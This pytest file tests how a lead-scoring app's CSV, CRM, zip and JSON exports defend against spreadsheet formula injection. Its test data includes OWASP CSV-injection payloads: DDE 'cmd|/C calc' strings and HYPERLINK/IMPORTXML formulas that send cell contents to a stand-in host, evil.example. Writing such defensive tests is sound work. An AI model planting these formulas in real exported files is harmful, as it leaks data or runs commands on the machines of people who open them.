"""Scored leads out (leadscore/score/export.py): the cell text a spreadsheet or a CRM reads.

Spreadsheets run a cell starting with = + - @ as a formula (CSV injection, OWASP). The tests read
the written CSV back the way a spreadsheet splits it (Python's csv module removes the quoting
exactly as Excel does), so quoting alone cannot pass them: a formula cell must start with an
apostrophe, which makes the spreadsheet show it as text.
"""

from __future__ import annotations

import csv
import io
import json
import zipfile

import numpy as np
import pandas as pd
import pytest

from leadscore.io.read import read_leads
from leadscore.score.export import call_list, crm_csv, excel_safe, is_formula, jsonl, ranked, scored_csv, tier_zip

# OWASP's CSV-injection payloads, and variants spreadsheets are known to run.
FORMULAS = [
    "=1+2",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!E2",
    '+HYPERLINK("http://evil.example/?leak="&A1, "Click")',
    '=IMPORTXML(CONCAT("http://evil.example/?v=", A1), "//a")',
    "\t=1",
    "\r=1",
    "\tcmd",  # a cell that starts with a tab
    "\n=1+1",
    "  =1+1",
    "\uff1d1+1",  # fullwidth equals sign, folded to "=" by some spreadsheet programs
    "-1+1",
    "+1+1",
]
# The signs a spreadsheet may read as = + - @: fullwidth (U+FF1D, U+FF0B, U+FF0D, U+FF20) and
# small forms (U+FE66, U+FE62, U+FE63, U+FE6B), even before digits; and a leading tab or CR.
LOOK_ALIKES = [
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(A1)",
    "\ufe661+1",
    "\ufe621+1",
    "\ufe63 2+3",
    "\ufe6bSUM(A1)",
    "\ufe62 61 98 361 5373",  # a phone number only with the ASCII plus
    "\ufe6312.5",  # a negative number only with the ASCII minus
    " \ufe66HYPERLINK(\"http://evil.example\")",
    "\t+1 555 0100",
    "\r-12.5",
]
FORMULAS += LOOK_ALIKES
PHONES = ["+61 98 361 5373", "+1 (555) 010-9999", "+44 20 7946 0958", "+33 1 23 45 67 89", "+49 (0)30 1234567", "0049 30 1234567", "+1 555 0100"]
PLAIN_NUMBERS = ["-12.5", "+3", "-10%", "1e5", "-1,200", "12", "-7"]


def cells(content: bytes) -> list[list[str]]:
    """The cells of a CSV as a spreadsheet shows them (quotes removed, byte-order mark skipped)."""
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("payload", FORMULAS)
def test_formulas_are_recognised(payload):
    assert is_formula(payload)


@pytest.mark.parametrize("value", PHONES + PLAIN_NUMBERS + ["plain text", "", "-", "--", "a=b", "O'Brien"])
def test_phone_numbers_plain_numbers_and_text_are_not_formulas(value):
    assert not is_formula(value)


def test_formula_cells_are_written_as_text_and_data_cells_unchanged():
    width = max(len(FORMULAS), len(PHONES), len(PLAIN_NUMBERS))
    pad = lambda values: values + [None] * (width - len(values))  # noqa: E731
    frame = pd.DataFrame(
        {
            "notes": pad(FORMULAS),
            "phone": pad(PHONES),
            "text_numbers": pad(PLAIN_NUMBERS),
            "amount": np.linspace(-2.5, 3.5, width),
        }
    )
    table = cells(scored_csv(frame))
    header, rows = table[0], table[1:]
    assert header == ["notes", "phone", "text_numbers", "amount"]
    assert len(rows) == width
    notes = [row[0] for row in rows]
    assert notes == ["'" + payload for payload in FORMULAS]  # every formula now starts with an apostrophe
    assert [row[1] for row in rows][: len(PHONES)] == PHONES  # phone numbers exactly as given
    assert [row[2] for row in rows][: len(PLAIN_NUMBERS)] == PLAIN_NUMBERS
    assert [float(row[3]) for row in rows] == pytest.approx(list(np.linspace(-2.5, 3.5, width)))  # real negative numbers stay numbers
    assert frame["notes"].iloc[0] == "=1+2"  # the table itself is not changed


def test_pandas_string_and_category_columns_are_made_safe_too():
    frame = pd.DataFrame(
        {
            "phone": pd.array(["+44 20 7946 0958", "=1+1", pd.NA], dtype="string"),
            "stage": pd.Categorical(["@SUM(A1)", "Won", None]),
        }
    )
    rows = cells(scored_csv(frame))[1:]
    assert [row[0] for row in rows] == ["+44 20 7946 0958", "'=1+1", ""]
    assert [row[1] for row in rows] == ["'@SUM(A1)", "Won", ""]


def test_a_yes_no_column_with_blanks_stays_yes_and_blank():
    """An object column holding True and blanks (the app crashed on it once)."""
    frame = pd.DataFrame({"subscribed": pd.Series([True, None, True], dtype=object), "lead_id": ["a", "b", "c"]})
    assert excel_safe(frame)["subscribed"].tolist() == [True, None, True]
    rows = cells(scored_csv(frame))[1:]
    assert [row[0].lower() for row in rows] == ["true", "", "true"]
    # The same column with a formula typed into one cell: only that cell changes.
    mixed = pd.DataFrame({"subscribed": pd.Series([True, None, "=1+1"], dtype=object)})
    assert excel_safe(mixed)["subscribed"].tolist() == [True, None, "'=1+1"]
    assert [row[0] for row in cells(scored_csv(mixed))[1:]] == ["True", "", "'=1+1"]


def test_column_names_are_made_safe_too():
    frame = pd.DataFrame({"=HYPERLINK(\"x\")": [1], "+49 30 1234567": [2], "source": ["Event"]})
    assert cells(scored_csv(frame))[0] == ["'=HYPERLINK(\"x\")", "+49 30 1234567", "source"]


def _scored() -> pd.DataFrame:
    return pd.DataFrame(
        {
            "lead_id": ["L-1", "L-2", "L-3", "L-4"],
            "email": ["a@x.example", "b@x.example", "c@x.example", "d@x.example"],
            "notes": ["=1+1", "Café owner", "-2+3", "call back"],
            "lead_score": [20, 85, 55, 5],
            "conversion_probability": [0.2, 0.85, 0.55, 0.05],
            "tier": ["Cool", "Hot", "Warm", "Cold"],
            "next_action": ["Drip", "Call now", "Email today", "Automated emails only"],
            "reason_1": ["Source is Event: +2 points", "Timeline is this month: +18 points", "=cmd", "Pages viewed is 0: -4 points"],
        }
    )


def test_the_crm_file_is_in_the_files_order_identifier_first_and_unescaped():
    content = crm_csv(_scored(), identifiers=["lead_id", "email"])
    assert not content.startswith(b"\xef\xbb\xbf")  # UTF-8 without a byte-order mark
    content.decode("utf-8")
    table = cells(content)
    assert table[0] == ["lead_id", "email", "lead_score", "conversion_probability", "tier", "next_action", "reason_1"]
    rows = table[1:]
    assert [row[0] for row in rows] == ["L-1", "L-2", "L-3", "L-4"]  # the file's order, to join back
    assert [row[6] for row in rows] == ["Source is Event: +2 points", "Timeline is this month: +18 points", "=cmd", "Pages viewed is 0: -4 points"]
    assert not any(cell.startswith("'") for row in rows for cell in row)  # a CRM stores what it gets


def test_the_crm_file_is_best_first_when_sorting_is_asked_for():
    rows = cells(crm_csv(_scored(), identifiers=["lead_id"], sort=True))[1:]
    assert [row[0] for row in rows] == ["L-2", "L-3", "L-1", "L-4"]  # 0.85, 0.55, 0.2, 0.05


def test_the_crm_file_of_ranked_leads_is_back_in_the_files_order():
    """The app hands over its call list (best first): the CRM file still follows the file."""
    rows = cells(crm_csv(ranked(_scored()), identifiers=["lead_id"]))[1:]
    assert [row[0] for row in rows] == ["L-1", "L-2", "L-3", "L-4"]


def test_ranked_ties_keep_the_files_order():
    scored = pd.DataFrame({"lead_id": ["a", "b", "c", "d"], "conversion_probability": [0.3, 0.5, 0.3, 0.5]})
    assert ranked(scored)["lead_id"].tolist() == ["b", "d", "a", "c"]


def test_the_tier_zip_holds_four_safe_files_best_first():
    with zipfile.ZipFile(io.BytesIO(tier_zip(_scored()))) as archive:
        assert sorted(archive.namelist()) == ["cold.csv", "cool.csv", "hot.csv", "warm.csv"]
        files = {name: archive.read(name) for name in archive.namelist()}
    assert all(content.startswith(b"\xef\xbb\xbf") for content in files.values())  # Excel reads accents
    hot = cells(files["hot.csv"])
    assert hot[1][:3] == ["L-2", "b@x.example", "Café owner"]
    cool = cells(files["cool.csv"])
    assert cool[1][2] == "'=1+1"
    assert sum(len(cells(content)) - 1 for content in files.values()) == 4


def test_json_lines_keep_values_as_they_are():
    lines = [json.loads(line) for line in jsonl(_scored()).splitlines()]
    assert [line["notes"] for line in lines] == ["=1+1", "Café owner", "-2+3", "call back"]
    assert lines[1]["conversion_probability"] == 0.85 and lines[1]["lead_score"] == 85


def test_a_carriage_return_in_a_column_of_text_and_numbers_stays_inside_its_lead():
    # Arrow cannot take a column mixing text and numbers (an Excel column); pandas writes it.
    mixed = pd.DataFrame({"note": pd.Series(["call\rback", 1.5, "=1+1"], dtype=object), "deal": [1, 2, 3]})
    rows = cells(scored_csv(mixed))
    assert rows == [["note", "deal"], ["call\rback", "1"], ["1.5", "2"], ["'=1+1", "3"]]


@pytest.mark.parametrize("payload", LOOK_ALIKES)
def test_each_look_alike_sign_is_written_as_text_in_every_file_for_excel(payload):
    scored = _scored()
    scored["notes"] = payload
    assert cells(scored_csv(scored))[1][2] == "'" + payload
    with zipfile.ZipFile(io.BytesIO(tier_zip(scored))) as archive:
        assert cells(archive.read("hot.csv"))[1][2] == "'" + payload


# --------------------------------------------------------------------------------------------
# Cells as the export wrote them, and a key for every lead

# An export without an ID column: dates without times, "1.0", leading zeros, blanks.
EXPORT = (
    "signed_up,zip,deal,source,note\n"
    "2018-05-07,007,1.0,Referral,\n"
    "2018-05-08,010,2.5,LinkedIn,call back\n"
    "2018-05-09,,12,Google Ads,\n"
)
WRITTEN = [
    ["2018-05-07", "007", "1.0", "Referral", ""],
    ["2018-05-08", "010", "2.5", "LinkedIn", "call back"],
    ["2018-05-09", "", "12", "Google Ads", ""],
]


def _scored_export() -> pd.DataFrame:
    """The export as read, with scores (the second lead best) and its row in the file, last."""
    leads = read_leads(EXPORT.encode())
    return leads.assign(
        lead_score=[40, 90, 10],
        conversion_probability=[0.4, 0.9, 0.1],
        tier=["Warm", "Hot", "Cold"],
        next_action=["Email", "Call", "Wait"],
        reason_1=["a", "b", "c"],
        row=[1, 2, 3],
    )


def test_every_file_shows_the_cells_as_the_export_wrote_them():
    scored = _scored_export()
    assert scored["zip"].tolist()[:2] == [7.0, 10.0]  # the model read numbers
    excel = cells(scored_csv(scored))
    assert [row[:5] for row in excel[1:]] == WRITTEN
    crm = cells(crm_csv(scored, identifiers=["zip"]))
    assert [row[:2] for row in crm[1:]] == [["1", "007"], ["2", "010"], ["3", ""]]
    with zipfile.ZipFile(io.BytesIO(tier_zip(scored))) as archive:
        assert cells(archive.read("hot.csv"))[1][:5] == WRITTEN[1]
        assert cells(archive.read("cold.csv"))[1][:5] == WRITTEN[2]
    lines = [json.loads(line) for line in jsonl(scored).splitlines()]
    assert [[line[c] for c in ("signed_up", "zip", "deal", "source", "note")] for line in lines] == WRITTEN


def test_the_call_list_puts_the_row_first_and_shows_blanks_as_blanks():
    table = call_list(_scored_export(), identifiers=["zip"])
    assert list(table.columns) == ["row", "zip", "lead_score", "tier", "why"]
    assert table["row"].tolist() == [2, 1, 3]  # best first, each with its row in the file
    assert table["zip"].tolist() == ["010", "007", ""]


def test_the_crm_file_of_an_export_without_id_starts_with_the_row_in_the_files_order():
    table = cells(crm_csv(ranked(_scored_export())))
    assert table[0] == ["row", "lead_score", "conversion_probability", "tier", "next_action", "reason_1"]
    assert [row[0] for row in table[1:]] == ["1", "2", "3"]
    assert [row[0] for row in cells(crm_csv(_scored_export(), sort=True))[1:]] == ["2", "1", "3"]


def test_dates_of_a_table_built_in_code_are_written_without_a_time_when_they_have_none():
    frame = pd.DataFrame({"signed_up": pd.to_datetime(["2018-05-07", None]), "called": pd.to_datetime(["2018-05-07 09:30", "2018-05-08 00:00"])})
    assert cells(scored_csv(frame))[1:] == [["2018-05-07", "2018-05-07 09:30:00"], ["", "2018-05-08 00:00:00"]]
